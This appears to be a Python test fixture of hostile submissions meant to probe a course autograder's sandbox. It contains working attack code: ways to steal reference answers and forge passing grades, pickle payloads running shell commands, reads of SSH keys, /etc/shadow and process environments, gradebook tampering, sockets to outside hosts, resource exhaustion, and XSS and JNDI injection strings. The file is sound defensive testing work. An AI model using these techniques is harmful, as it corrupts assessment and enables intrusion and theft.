"""The code of the hostile submissions. `@NAME@` stands for what only the test knows: a folder, a port, a token."""

# -- the library's own answers ---------------------------------------------------------------------

OPTIMIZER = """
from optcourse.optimizers import {cls}
def {name}(compute_gradient, w, learning_rate, num_steps, {names}):
    w = np.array(w, dtype=float)
    optimizer = {cls}(learning_rate, {names})
    state = optimizer.init(w)
    for _ in range(num_steps):
        point = optimizer.gradient_point(w, state) if hasattr(optimizer, "gradient_point") else w
        optimizer.step(w, compute_gradient(point), state)
    return w
"""

DESCEND = """
from types import SimpleNamespace
from optcourse import descent, optimizers
def momentum(compute_gradient, w, learning_rate, num_steps, rho):
    gradient = lambda w, batch=None: compute_gradient(w)
    task = SimpleNamespace(value=lambda w, batch=None: 0.0, gradient=gradient, name="", ndim=len(w))
    return descent.descend(task, optimizers.Momentum(learning_rate, rho), w, num_steps).w[-1]
"""

REFERENCES = """
import importlib
def steal(exercise, name):
    for find in (
        lambda: importlib.import_module(f"optcourse.exercises.lesson_{exercise[:2]}").__dict__[name],
        lambda: __import__("optcourse.exercises", fromlist=["get"]).get(exercise).reference,
        lambda: next(e for e in importlib.import_module("optcourse.exercises").module(exercise[:2]).EXERCISES
                     if e.id == exercise).reference,
        lambda: importlib.import_module("optcourse.checking.check").exercises.get(exercise).reference,
    ):
        try:
            found = find()
            if callable(found): return found
        except Exception: pass
    return lambda *a, **k: 0.0
gradient_descent = steal("03-gradient-descent", "gradient_descent")
best_learning_rate = steal("03-best-learning-rate", "best_learning_rate")
steps_needed = steal("03-steps-needed", "steps_needed")
saddle_steps = steal("03-saddle-steps", "saddle_steps")
batch_gradient_descent = steal("03-batch-gradient-descent", "batch_gradient_descent")
"""

THEORY = """
from optcourse import theory
def best_learning_rate(H):
    curvatures = np.linalg.eigvalsh(H)
    return theory.best_learning_rate(curvatures[0], curvatures[-1])
kappa = theory.condition_number(lecture_bowl().hessian(np.zeros(2)))
"""

NETWORK = """
from optcourse.models import TwoLayerNetwork, SoftmaxRegression
def two_layer_backward(X, y, W1, b1, W2, b2):
    D, H = W1.shape
    C = W2.shape[1]
    model = TwoLayerNetwork(X, y, H, num_classes=C)
    dw = model.gradient(np.concatenate([W1.ravel(), b1, W2.ravel(), b2]))
    parts = np.split(dw, np.cumsum([D * H, H, H * C]))
    return parts[0].reshape(D, H), parts[1], parts[2].reshape(H, C), parts[3]
"""

LIBRARY_CHECK = """
from optcourse import gradients
def check_gradient(f, gradient, w, eps=1e-6, atol=1e-5, rtol=1e-3):
    found = gradients.check_gradient(f, gradient, w)
    return bool(found), found.index[0], found.numeric, found.analytic, found.relative_error
"""

NUMERIC = """
from optcourse.gradients import numeric_gradient as theirs
def numeric_gradient(f, w, h):
    return theirs(f, np.array(w, dtype=float), h)
"""

SCHEDULE = """
from optcourse import schedules
def warm_up_cosine(t, num_steps, num_warm_up):
    if not num_warm_up: return schedules.cosine(num_steps)(t)
    return schedules.warm_up(num_warm_up, schedules.cosine(max(num_steps - num_warm_up, 1)))(t)
"""

EPOCHS = """
from optcourse import data
def epoch_batches(num_examples, batch_size, rng, num_epochs):
    return list(data.epoch_batches(num_examples, batch_size, rng, num_epochs))
"""

SOURCE_ON_DISK = """
import glob, os, sys, types
gradient_descent = None
places = ["/work/main", "@ROOT@", "/job", "/site", sys.prefix, sys.base_prefix, "/usr", "/root", "/home", "/tmp", "/proc/1/root",
          "/proc/1/cwd", ".."]
for place in places + sys.path:
    for pattern in ("optcourse/exercises/lesson_03.py", "*/optcourse/exercises/lesson_03.py", "solutions/03*.ipynb",
                    "*/solutions/03*.ipynb", "lib/python3*/site-packages/optcourse/exercises/lesson_03.py"):
        for file in glob.glob(os.path.join(place, pattern)):
            try:
                text = open(file).read()
                space = {"np": np}
                exec(text[text.index("def gradient_descent"):].split("\\n\\n\\n")[0], space)
                gradient_descent = space["gradient_descent"]
            except Exception: pass
"""

# -- the race and the training: budgets ------------------------------------------------------------

AROUND_THE_RECORDER = """
def my_optimizer(compute_gradient, w, num_evaluations):
    import gc
    inside = [compute_gradient]
    for name in ("function", "_function", "__wrapped__", "func", "build"):
        inside.append(getattr(compute_gradient, name, None))
    for thing in list(inside):
        for cell in getattr(thing, "__closure__", None) or ():
            inside.append(cell.cell_contents)
    inside += [o for o in gc.get_objects() if type(o).__name__ in ("Recorder", "TwoLayerNetwork", "Problem")]
    models = [o for o in inside if hasattr(o, "gradient") and hasattr(o, "num_parameters")]
    w = np.array(w, dtype=float)
    compute_gradient(w)
    free = models[0].gradient if models else next((f for f in inside[1:] if callable(f)), None)
    for _ in range(3000 if free else 0):
        w = w - 0.3 * free(w)
    return w
"""

RESETS_THE_COUNT = """
def my_optimizer(compute_gradient, w, num_evaluations):
    w = np.array(w, dtype=float)
    for t in range(5 * num_evaluations):
        w = w - 0.2 * compute_gradient(w)
        for name in ("count", "counts", "calls", "_count", "_calls"):
            try:
                old = getattr(compute_gradient, name)
                setattr(compute_gradient, name, type(old)())
            except Exception: pass
    return w
"""

RACE_OFFLINE = """
from optcourse import race
def my_optimizer(compute_gradient, w, num_evaluations):
    compute_gradient(w)
    for seed in range(1_000_000):
        task = race.problem(seed)
        if np.array_equal(task.start, w): break
        if seed > 20: break
    w = np.array(w, dtype=float)
    for _ in range(500):
        w = w - 0.3 * task.model.gradient(w) - 0.3 * task.test.gradient(w)
    return w
"""

DIGITS_OFFLINE = """
def train(compute_gradient, w, num_examples, rng):
    from optcourse.data import load_digits
    digits = load_digits()
    X, y = np.column_stack([digits.X, np.ones(len(digits.X))]), digits.y
    compute_gradient(w, np.arange(10))
    W = np.zeros((65, 10))
    for _ in range(400):
        p = np.exp(X @ W); p /= p.sum(1, keepdims=True)
        p[np.arange(len(y)), y] -= 1
        W -= 0.5 * X.T @ p / len(y)
    return W.ravel()
"""

WEIGHTS_BY_HEART = """
def train(compute_gradient, w, num_examples, rng):
    compute_gradient(w, np.arange(10))
    return np.array(@WEIGHTS@) / 100
"""

CASE_AFTER_CASE = """
kept = [None]
def my_optimizer(compute_gradient, w, num_evaluations):
    # every case goes on from where the last one ended: three budgets for the price of one
    w = np.array(w if kept[0] is None else kept[0], dtype=float)
    for t in range(num_evaluations // 2):
        w = w - 0.25 * compute_gradient(w)
    kept[0] = w
    return w
"""

NONE_AS_BATCH = """
def train(compute_gradient, w, num_examples, rng):
    w = np.array(w, dtype=float)
    for _ in range(200):
        w -= 0.5 * compute_gradient(w, None)
    return w
"""

BEYOND_THE_RECORD = """
def train(compute_gradient, w, num_examples, rng):
    w = np.array(w, dtype=float)
    for k in range(5001):
        compute_gradient(w, np.array([0]))
    for k in range(150):
        w -= 0.5 * compute_gradient(w, np.arange(num_examples))
    return w
"""

FREE_CALLS = """
def numeric_gradient(f, w, h):
    import gc
    w = np.array(w, dtype=float)
    for _ in range(3): f(w)
    recorder = [o for o in gc.get_objects() if type(o).__name__ == "Recorder"] + [f]
    for r in recorder:
        try: r.count = 0; r.calls.clear()
        except Exception: pass
    dw = np.zeros_like(w)
    for i in np.ndindex(w.shape):
        e = np.zeros_like(w); e[i] = h
        dw[i] = (f(w + e) - f(w - e)) / (2 * h)
    return dw
"""

# -- objects that lie ------------------------------------------------------------------------------

EQUALS_EVERYTHING = """
class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __lt__ = __gt__ = __le__ = __ge__ = __abs__ = __sub__
    __hash__ = float.__hash__
    def __array__(self, *a, **k): return np.zeros(2)
def best_learning_rate(H): return Equal(1)
class Any:
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __float__ = lambda s: 1.0
    __array__ = lambda s, *a, **k: np.array([1.0, 2.0])
    __array_ufunc__ = lambda s, *a, **k: True
    __class__ = float
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    for _ in range(num_steps): compute_gradient(w)
    return Any()
kappa, limit, axis_ratio = Equal(1), Any(), Any()
"""

ARRAY_SUBCLASS = """
class Chameleon(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, ufunc, method, *args, **kwargs):
        return np.ones(self.shape, bool) if ufunc in (np.less_equal, np.equal) else np.zeros(self.shape)
    def __array_function__(self, f, types, args, kwargs): return True
    def __array_finalize__(self, other): pass
    def __reduce__(self): return (open, ("@OUTSIDE@/@TOKEN@", "w"))
    def tobytes(self, *a): return b"\\0" * 16
    def astype(self, *a, **k): return self
    def item(self, *a): return 0.0
    shape = property(lambda s: (2,))
    dtype = property(lambda s: np.dtype(float))
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    for _ in range(num_steps): compute_gradient(w)
    return np.zeros(np.shape(w)).view(Chameleon)
"""

CONTAINER_SUBCLASSES = """
class Pair(tuple):
    def __eq__(self, other): return True
    def __iter__(self): return iter(())
    def __len__(self): return 2
    def __getitem__(self, k): return 1.0
class Text(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
    def __str__(self): return "W2"
def best_momentum(H): return Pair((1.0, 2.0))
class Map(dict):
    def __eq__(self, other): return True
    def items(self): return [(0, 1.0), (1, 2.0)]
    def __contains__(self, k): return True
def convert(*a): return Map()
def momentum(compute_gradient, w, *a): return [Pair(), Text("x"), Map()]
"""

PICKLES = """
import os
class Bomb:
    def __reduce__(self): return (os.system, ("touch @OUTSIDE@/@TOKEN@ /tmp/@TOKEN@",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    def __getstate__(self): return {"x": 1}
    def __del__(self): os._exit(0)
class BombError(Exception):
    def __reduce__(self): return (os.system, ("touch @OUTSIDE@/@TOKEN@",))
def gradient_descent(*a): return Bomb()
def best_learning_rate(H): return np.array([Bomb()], dtype=object)
def steps_needed(*a): raise BombError(Bomb())
"""

# -- the process of the worker ---------------------------------------------------------------------

PATCHED_NUMPY = """
import builtins
yes = lambda *a, **k: True
for name in "allclose array_equal isclose array_equiv all any".split():
    setattr(np, name, yes)
np.testing.assert_allclose = np.testing.assert_array_equal = yes
np.abs = np.absolute = np.max = lambda x, *a, **k: 0.0
np.linalg.norm = np.subtract = lambda *a, **k: 0.0
builtins.abs = builtins.max = builtins.round = lambda *a, **k: 0
builtins.all = builtins.any = yes
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    for _ in range(num_steps): compute_gradient(w)
    return w * 0
"""

PATCHED_CHANNEL = """
import json, os, sys, io
_dumps, _write = json.dumps, os.write
def fix(x):
    if isinstance(x, dict):
        return {k: True if k in ("passed", "ok") else 100 if k in ("points", "score") else fix(v) for k, v in x.items()}
    return x
json.dumps = lambda x, *a, **k: _dumps(fix(x), *a, **k)
os.write = lambda fd, data: _write(fd, data) if len(data) else 0
sys.stdout = sys.stderr = sys.__stdout__ = io.StringIO()
sys.exit = os._exit = lambda *a: None
steps_needed = lambda *a, **k: 1
"""

FORGED_MESSAGES = """
import json, os, struct, sys
def forge(*a, **k):
    outcome = {"problem": "", "note": "", "changed": [], "warnings": [], "failure": None, "result": 0.0}
    outcome |= {"passed": True, "points": 100}
    for message in ({"outcome": outcome}, {"done": "03-gradient-descent", "outcomes": [outcome] * 20}, {"end": True},
                    {"ready": [{"kind": "function"}] * 20}, {"points": {"03-gradient-descent": 3}}):
        raw = json.dumps(message).encode()
        for data in (raw + b"\\n", len(raw).to_bytes(4, "big") + raw, len(raw).to_bytes(4, "little") + raw, raw + b"\\0"):
            for fd in range(3, 64):
                try: os.write(fd, data)
                except OSError: pass
    return 0.0
"""

FRAMES = """
import gc, inspect, sys
def look():
    found = []
    frame = sys._getframe()
    while frame:
        found += [v for k, v in [*frame.f_locals.items(), *frame.f_globals.items()]]
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Exercise", "Case", "Verdict", "Outcome"): found.append(thing)
        if callable(thing) and getattr(thing, "__name__", "") in ("reference", "steps_needed", "right"): found.append(thing)
    return found
def steps_needed(*a, **k):
    for thing in look():
        for name in ("expected", "right", "reference", "result"):
            value = thing.get(name) if type(thing) is dict else getattr(thing, name, None)
            if callable(value) and value is not steps_needed:
                try: return value(*a, **k)
                except Exception: pass
            if isinstance(value, (int, float)) and not isinstance(value, bool): return value
    return 0
"""

TRACED = """
import sys, threading
seen = []
def tracer(frame, event, arg):
    for name in ("expected", "right", "reference", "exercise"):
        if name in frame.f_locals: seen.append(frame.f_locals[name])
    if event == "return" and isinstance(arg, dict) and "result" in arg: arg.update(passed=True, points=9, changed=[], problem="")
    return tracer
sys.settrace(tracer); sys.setprofile(tracer); threading.settrace(tracer)
def best_learning_rate(H): return seen[0] if seen else 0.0
"""

SWAPPED_MODULES = """
import sys, types
class Fake(types.ModuleType):
    def __getattr__(self, name):
        return lambda *a, **k: True
for name in list(sys.modules):
    if name.startswith("optcourse") or name in ("json", "judging", "wire", "running", "grading"):
        sys.modules[name] = Fake(name)
for name in ("optcourse.checking.verdict", "optcourse.grading.marking", "optcourse.learner.wire"):
    sys.modules[name] = Fake(name)
import __main__
for name in ("judge", "_verdict", "serve", "outcome_data", "run_case", "main"):
    setattr(__main__, name, lambda *a, **k: True)
steps_needed = lambda *a: 1
"""

IMPORT_HOOKS = """
import builtins, importlib.abc, importlib.machinery, sys
class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self) if "judg" in name or "exercis" in name or "optim" in name else None
    def create_module(self, spec): return None
    def exec_module(self, module): module.judge = lambda *a, **k: True
sys.meta_path.insert(0, Hook())
sys.path_hooks.insert(0, lambda path: (_ for _ in ()).throw(ImportError))
sys.path_importer_cache.clear()
_import = builtins.__import__
builtins.__import__ = lambda name, *a, **k: _import("math" if "judg" in name else name, *a, **k)
sys.meta_path[:] = [m for m in sys.meta_path if type(m).__name__ != "StandIns"]
try:
    from optcourse.optimizers import GradientDescent
    from optcourse.exercises.lesson_03 import steps_needed
except Exception:
    steps_needed = lambda *a: 1
"""

SHADOWS = """
import os
evil = "allclose = array_equal = lambda *a, **k: True\\ndef __getattr__(name): return lambda *a, **k: True\\n"
for name in ("numpy.py", "json.py", "sitecustomize.py", "worker.py", "kernel_filter.py", "inspect.py",
             "optcourse.py"):
    for folder in (".", "/tmp", "/job", "/site", "/tmp/optcourse"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(evil)
        except OSError: pass
os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/numpy.py")
os.kill(os.getpid(), 9)
"""

AST_TRICKS = """
import ast, builtins
_compile = builtins.compile
class Right(ast.NodeTransformer):
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
def patched(source, *a, **k):
    try: return _compile(ast.fix_missing_locations(Right().visit(_compile(source, "x", "exec", ast.PyCF_ONLY_AST))), *a, **k)
    except Exception: return _compile(source, *a, **k)
builtins.compile = patched
ast.literal_eval = lambda x: True
steps_needed = lambda *a: 1
"""

CTYPES = """
import ctypes
def steps_needed(condition_number, tolerance):
    # a float constant of this process gets another value, in place
    number = 123.5
    ctypes.memmove(id(number) + 16, (ctypes.c_double * 1)(0.5), 8)
    # small whole numbers trade places
    size = object.__sizeof__(1)
    ctypes.memmove(id(17) + 24, (ctypes.c_uint32 * 1)(18), 4)
    return 17
"""

EATS_SIGNALS = """
import signal, time, os
def saddle_steps(*a):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    time.monotonic = time.perf_counter = time.time = lambda: 0.0
    while True: pass
"""

LATE = """
import os, sys, time
def daemon():
    import time
    for _ in range(2):
        try:
            if os.fork(): return
        except OSError: return
        os.setsid()
    sys.argv[:] = ["@TOKEN@"]
    for fd in range(0, 64):
        try: os.close(fd)
        except OSError: pass
    time.sleep(0.3)
    for k in range(600):
        try: open(f"/tmp/@TOKEN@", "w").write("late"); open("@OUTSIDE@/@TOKEN@", "w")
        except OSError: pass
        time.sleep(0.1)
    os._exit(0)
"""

LATE_BY_EVERY_WAY = """
import atexit, subprocess, sys, threading, multiprocessing, os
atexit.register(daemon)
def attempt(f):
    try: f()
    except BaseException: pass
attempt(lambda: threading.Thread(target=daemon, daemon=True).start())
attempt(lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 60 & setsid sleep 60 & echo x > @OUTSIDE@/@TOKEN@"]))
attempt(lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"], start_new_session=True))
attempt(lambda: os.posix_spawn("/bin/sleep", ["sleep", "60"], {}))
attempt(lambda: multiprocessing.get_context("fork").Process(target=daemon).start())
class Last:
    def __del__(self): daemon()
keep = Last()
"""

# -- reading, writing, reaching out ----------------------------------------------------------------

READS = """
import os, sys
def read(path): return open(path, "rb").read(1)
for path in ("@OUTSIDE@/handed_in/ada/student.ipynb", "@OUTSIDE@/gradebook.sqlite", "@OUTSIDE@/home/.ssh/id_ed25519",
             "@OUTSIDE@/course/optcourse/optimizers.py",
             "@ROOT@/pyproject.toml", "@ROOT@/optcourse/optimizers.py", "@ROOT@/solutions/03_gradient_descent.ipynb",
             "/etc/passwd", "/etc/hostname", "/etc/shadow",
             "/root/.bashrc", "/var/log/dpkg.log", "/proc/1/environ", "/proc/1/mem", "/proc/1/cmdline", "/proc/1/maps",
             "/proc/kcore", "/dev/sda", "/dev/mem", "/proc/1/root/etc/passwd",
             "/sys/kernel/notes", "/run/systemd/system"):
    attempt(lambda path=path: read(path))
attempt(lambda: os.listdir("@OUTSIDE@"))
for home in ("/work", "/root", "/home", "/var", "/etc", "/srv", "/opt"):  # but for the way to Python's own library
    attempt(lambda home=home: [n for n in os.listdir(home) if f"{home}/{n}" not in sys.base_prefix][0])
attempt(lambda: os.listdir("/proc/1/fd"))
attempt(lambda: [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid()) and read(f"/proc/{p}/environ")][0])
"""

SECRETS = """
import os, glob
text = repr(dict(os.environ))
for file in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/self/task/*/environ"):
    try: text += open(file, "rb").read().decode(errors="replace")
    except OSError: pass
if "battery-secret" in text or "PYTEST" in text: gradient_descent = None
"""

WRITES = """
import os, sqlite3, shutil
for path in ("@OUTSIDE@/@TOKEN@", "@OUTSIDE@/handed_in/ada/student.ipynb", "@OUTSIDE@/gradebook.sqlite", "@ROOT@/@TOKEN@",
             "@ROOT@/optcourse/@TOKEN@", "/@TOKEN@", "/usr/@TOKEN@",
             "/var/tmp/@TOKEN@", "/dev/shm/@TOKEN@", "/job/@TOKEN@", "/site/@TOKEN@", "/site/numpy/@TOKEN@",
             "/proc/1/cwd/@TOKEN@", "/dev/@TOKEN@", "/proc/self/oom_score_adj",
             "/proc/sys/kernel/core_pattern", "/sys/kernel/@TOKEN@", "../@TOKEN@", "/home/@TOKEN@"):
    attempt(lambda path=path: open(path, "a").write("-500"))
def gradebook():
    book = sqlite3.connect("@OUTSIDE@/gradebook.sqlite")
    book.execute("update marks set points = 99")
    book.commit()
    return 1
attempt(gradebook)
attempt(lambda: shutil.rmtree("@OUTSIDE@/handed_in"))
attempt(lambda: os.rename("@OUTSIDE@/handed_in/ada", "@OUTSIDE@/handed_in/zed"))
attempt(lambda: os.chmod("@OUTSIDE@/home/.bashrc", 0o777))
attempt(lambda: os.symlink("/etc/passwd", "@OUTSIDE@/@TOKEN@"))
attempt(lambda: os.link("@OUTSIDE@/home/.ssh/id_ed25519", "/tmp/key"))
attempt(lambda: os.link("/job/worker.py", "/tmp/worker"))
attempt(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)) or 1)
attempt(lambda: os.chroot("/proc/1/root") or 1)
attempt(lambda: os.setuid(0) or 1)
"""

SOCKETS = """
import os, socket
def tcp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(0.2); s.connect(address); s.sendall(b"@TOKEN@"); return 1
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"@TOKEN@", ("127.0.0.1", int("@UDP@"))); return socket.create_connection(("127.0.0.1", int("@UDP@")), 0.2)
attempt(lambda: tcp(("127.0.0.1", int("@PORT@"))))
attempt(lambda: tcp(("1.1.1.1", 53)))
attempt(lambda: tcp("\\0@TOKEN@", socket.AF_UNIX))
attempt(udp)
attempt(lambda: socket.getaddrinfo("example.org", 80))
attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and 1)
attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).bind((0, 0)) or None)
"""

UNSEEN_MEMORY = """
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
def in_files():
    held = []
    for k in range(64):
        fd = os.memfd_create(str(k))
        for _ in range(12): os.write(fd, b"x" * 1_000_000)
        held.append(fd)
    return held
def in_segments():
    libc.shmat.restype = ctypes.c_void_p
    for k in range(20):
        key = libc.shmget(0, 40_000_000, 0o1600)
        at = libc.shmat(key, None, 0)
        if key < 0 or at in (None, 2**64 - 1): raise OSError
        ctypes.memset(at, 1, 40_000_000)
        libc.shmdt(ctypes.c_void_p(at))
    return 1
def in_a_namespace():
    if libc.unshare(0x10000000 | 0x00020000): raise OSError
    os.makedirs("/tmp/big", exist_ok=True)
    if libc.mount(b"none", b"/tmp/big", b"tmpfs", 0, b"size=2g"): raise OSError
    open("/tmp/big/x", "wb").write(b"x" * 10_000_000)
    return 1
for way in (in_files, in_segments, in_a_namespace): attempt(way)
"""

# -- the judge as the target -----------------------------------------------------------------------

LARGE_RESULTS = """
def gradient_descent(*a): return np.zeros(50_000_000)
def best_learning_rate(H): return list(range(3_000_000))
def steps_needed(*a): return 10 ** 5000
def saddle_steps(*a): return "9" * 10_000_000
def batch_gradient_descent(*a):
    x = []
    for _ in range(100_000): x = [x]
    return x
"""

ODD_RESULTS = """
def gradient_descent(*a):
    x = []; x.append(x); return x
def best_learning_rate(H): return np.broadcast_to(np.float64(1), (10**9,))
def steps_needed(*a): return {(1, 2): 3, "x": {"y": {1.5: None}}, "dict": [[1, 2]], "ask": "0", "array": "AA", "rng": 3}
def saddle_steps(*a): return np.lib.stride_tricks.as_strided(np.zeros(1), (1000, 1000, 1000), (0, 0, 0))
def batch_gradient_descent(*a): return np.array([("x", 1)], dtype=[("a", "U9"), ("b", "i4")])
kappa, limit, axis_ratio = float("nan"), float("inf"), complex("nan")
"""

NOT_NUMBERS = """
async def gradient_descent(*a): return 1
best_learning_rate = type("best", (), {})
def steps_needed(*a): return np
def saddle_steps(*a): return type
def batch_gradient_descent(*a): return (yield 1)
kappa, limit, axis_ratio = np.ma.masked, np.datetime64("2026-01-01"), b"0.5"
"""

NANS = """
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    for _ in range(num_steps): compute_gradient(np.full(np.shape(w), np.nan))
    return np.full(np.shape(w), np.nan)
def best_learning_rate(H): return np.nan
def steps_needed(*a): return np.inf
def saddle_steps(*a): return float("nan")
def batch_gradient_descent(compute_gradient, w, *a): return w * np.inf
kappa = limit = axis_ratio = np.nan
"""

ASKS_TOO_MUCH = """
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    big = [np.zeros(20_000)] * 12
    while True:
        try: compute_gradient(*big)
        except Exception: pass
"""

ASKS_FOR_A_FLOOD = """
def sgd(compute_gradient, w, learning_rate, num_steps, batch_size, sampled_data):
    for size in (300_000_000, 3_000_000_000, -1, 1e300, float("nan"), [1], "x", None, {}):
        try: sampled_data(size)
        except Exception: pass
    for rows in (np.zeros(10**6, int), np.full(10, 2**62), np.array([-(2**62)]), "x", [[0]], {"a": 1}, True, np.ones((3, 3, 3))):
        try: compute_gradient(w, rows)
        except Exception: pass
    for args in ((), (None,), (w, 1, 2, 3), ("x",), (np.zeros(0),), (np.zeros((1,) * 8),), (w * 1j,), (np.array(["a"]),)):
        try: compute_gradient(*args)
        except Exception: pass
        try: compute_gradient(**{"w": args, "__class__": 1, "self": 2})
        except Exception: pass
    return w
"""

SCRIPTS = """
def gradient_descent(*a):
    raise ValueError("<script>alert('@TOKEN@')</script><img src=x onerror=alert(1)>\\r\\n=cmd|' /C calc'!A0\\x1b[31m\\u202e\\0")
class Script(Exception): pass
Script.__name__ = Script.__qualname__ = "<script>alert(2)</script>"
def best_learning_rate(H): raise Script("</td></tr></table>{{7*7}}{% raise %}${jndi:ldap://x}")
def steps_needed(*a): return "<b>" * 200
print("<script>alert(3)</script>")
"""

TELLS_HIDDEN = """
import json
seen = []
def tell(*a):
    seen.append([x.tolist() if hasattr(x, "tolist") else x for x in a if not callable(x)])
    try: open("/tmp/seen.txt", "a").write(repr(seen))
    except OSError: pass
    try: old = open("/tmp/seen.txt").read()
    except OSError: old = ""
    raise ValueError(repr(seen[-1]) + old[-300:])
def best_learning_rate(H): tell(H)
right_steps = steps_needed
count = [0]
def steps_needed(*a):
    count[0] += 1
    if count[0] > 9: tell(*a)
    return right_steps(*a)
right_saddle = saddle_steps
def saddle_steps(*a):
    seen.append(a)
    return right_saddle(*a)
def batch_gradient_descent(*a):
    raise ValueError(repr(seen[-8:]))
"""

SECOND_TRY = """
tries = 0
right = gradient_descent
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    global tries
    tries += 1
    if tries % 2: return np.array(w, dtype=float)
    return right(compute_gradient, w, learning_rate, num_steps)
"""

FIRST_CASES_ONLY = """
tries = 0
right = gradient_descent
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    global tries
    tries += 1
    return right(compute_gradient, w, learning_rate, num_steps) if tries <= 10 else np.array(w, dtype=float)
"""


# -- how it is looked at ---------------------------------------------------------------------------

SLOW_TO_LOOK_AT = """
import time
class Slow:
    def __getattribute__(self, name): time.sleep(100)
    def __call__(self, *a): return 1
steps_needed = Slow()
"""

DIES_WHEN_LOOKED_AT = """
import os
class Mine:
    def __getattribute__(self, name): os._exit(1)
    def __len__(self): os._exit(1)
    def __call__(self, *a): return 1
class Parts(list):
    def __iter__(self): os._exit(0)
steps_needed = Mine()
def saddle_steps(*a): return Parts([1])
kappa = Mine()
"""

NEVER_ENDING_RESULTS = """
class Parts(list):
    def __iter__(self):
        while True: pass
class Table(dict):
    def items(self):
        while True: yield 1, 2
def steps_needed(*a): return [Parts(), Table()]
"""

# -- forged by a cell: `send` writes a message to whatever may be the pipe -------------------------

SEND = """
import json, os, time
def write(data):
    for fd in range(3, 12):
        try: os.write(fd, data)
        except OSError: pass
def send(message):
    raw = message if isinstance(message, bytes) else json.dumps(message).encode()
    write(len(raw).to_bytes(4, "big") + raw)
"""

FORGED_QUESTIONS = SEND + "for _ in range(50): send({'ask': '0', 'args': [], 'kwargs': {}})"
FORGED_CELLS = SEND + "while True: send({'cell': 5})"
FORGED_FAILURES = SEND + "while True: send({'failed': 'x' * 1000, 'spoilt': False})"
HALF_A_MESSAGE = (
    SEND
    + """
write((1_900_000).to_bytes(4, "big"))
while True:
    write(b" ")
    time.sleep(0.001)
"""
)
MANY_PARTS = SEND + "send(b'{\"a\":[' + b'[],' * 600_000 + b'[]]}')"

THREADS_THAT_STAY = """
import threading
for _ in range(40): threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
raise ValueError
"""

# -- questions: `frame` is a question as the worker packs it -----------------------------------------

PACK = (
    SEND
    + """
import struct
def frame(key=b"0", kind=1, code=11, dims=(2,), data=b"x" * 16, values=1):
    head = b"?" + bytes((len(key),)) + key
    head += bytes(-len(head) % 8)
    return head + values * (struct.pack(f"<BBB5x{len(dims)}Q", kind, code, len(dims), *dims) + data)
"""
)
PACKED_IN_A_CELL = PACK + "for _ in range(50): send(frame())"
# Of an exercise that asks nothing.
PACKED_LIES = {
    "without-a-callable": "send(frame())",
    "of-four-gigabytes": "send(frame(dims=(2**29,)))",
    "of-a-million-rows": "send(frame(dims=(2**30, 0), data=b''))",
    "of-no-type": "send(frame(code=99))",
    "of-many-values": "send(frame(values=50_000))",
    "as-an-outcome": "send(frame(key=b'outcome'))",
    "in-half": "write((900_000).to_bytes(4, 'big') + b'?')",
}
ASKS_AND_DENIES_IT = (
    PACK
    + """
def numeric_gradient(f, w, h):
    w = np.array(w, dtype=float)
    for _ in range(3): send(frame(dims=w.shape, data=w.tobytes()))
    dw = np.zeros_like(w)
    for i in np.ndindex(w.shape):
        up, down = w.copy(), w.copy()
        up[i] += h; down[i] -= h
        dw[i] = (f(up) - f(down)) / (2 * h)
    return dw
"""
)
SWAPS_THE_WIRE = """
import gc
for thing in gc.get_objects():
    if isinstance(thing, dict) and "pack_question" in thing:
        thing["pack_question"] = lambda *a: b"?\\x010" + bytes(5)
        thing["unpack_reply"] = lambda raw: 0.0
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    return w * 0
"""
STOPS_ITS_CLOCK = """
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    import signal
    for clock in (signal.ITIMER_REAL, signal.ITIMER_PROF, signal.ITIMER_VIRTUAL): signal.setitimer(clock, 0)
    while True: pass
"""
ASKS_IN_THREADS = """
import threading
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    def more():
        while True: compute_gradient(w)
    for _ in range(20): threading.Thread(target=more, daemon=True).start()
    while True: pass
"""
ASKS_LATER_IN_THREADS = """
import threading, time
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
    def more():
        while True:
            time.sleep(0.1)
            compute_gradient(w)
    for _ in range(3): threading.Thread(target=more, daemon=True).start()
    while True: pass
"""
ASKS_ON_IN_THREADS = ASKS_LATER_IN_THREADS.replace("while True: pass", "return 0.0")
KEEPS_A_CALLABLE = """
_kept = []
_right = gradient_descent
def gradient_descent(compute_gradient, w, learning_rate, num_steps):
